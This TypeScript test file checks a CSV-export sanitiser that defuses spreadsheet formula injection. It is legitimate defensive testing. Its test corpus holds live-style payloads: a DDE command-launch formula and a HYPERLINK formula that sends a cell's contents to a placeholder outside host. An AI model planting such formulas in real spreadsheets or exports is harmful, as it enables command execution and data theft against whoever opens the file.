import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { csvOf } from './archive.ts';
import { safeCell } from './cells.rules.ts';

const CODES = ['=1+1', '+1', '-1', '@SUM(A1)', '＝1+1', '＋1', '－1', '＠A1'];
const BEFORE = [
  '',
  ' ',
  '\u00a0',
  '\n',
  '\r\n',
  '\t',
  '\u2003',
  '\u200b',
  '\ufeff',
  '\u202f',
  ' \u00a0\n\t ',
];
const CORPUS = [
  ...BEFORE.flatMap((before) => CODES.map((code) => before + code)),
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://elsewhere.example?x="&A1,"Click")',
  '\t=1',
  '\rtext',
];
const HARMLESS = ['', 'Plain', 'a = b', 'Élodie - Łódź', '“=1”', 'No. 1', '3-5 years', 'x@example.org', '-'];

describe('a cell of a table', () => {
  it.each(CORPUS)('%j is never a formula, and nothing of it is lost', (text) => {
    expect(safeCell(text)).toBe(`'${text}`);
  });

  it.each(HARMLESS)('%j stays as it is', (text) => expect(safeCell(text)).toBe(text));

  it('says numbers, nothing and what has an inner order', () => {
    expect([-4.5, null, undefined, true, { a: ['=1'] }].map(safeCell)).toEqual([
      '-4.5',
      '',
      '',
      'true',
      '{"a":["=1"]}',
    ]);
  });

  it('comes back from the file whatever is in it, with no cell that begins like a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.record({ one: fc.string({ unit: 'grapheme' }), two: fc.constantFrom(...CORPUS) }), {
          minLength: 1,
        }),
        (rows) => {
          const read = parse(csvOf(rows), { bom: true, relax_column_count: false });
          expect(read).toEqual([
            ['one', 'two'],
            ...rows.map(({ one, two }) => [safeCell(one), safeCell(two)]),
          ]);
          for (const cell of read.slice(1).flat())
            if (cell !== '-') expect(cell.trim()).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/u);
        },
      ),
    );
  });
});
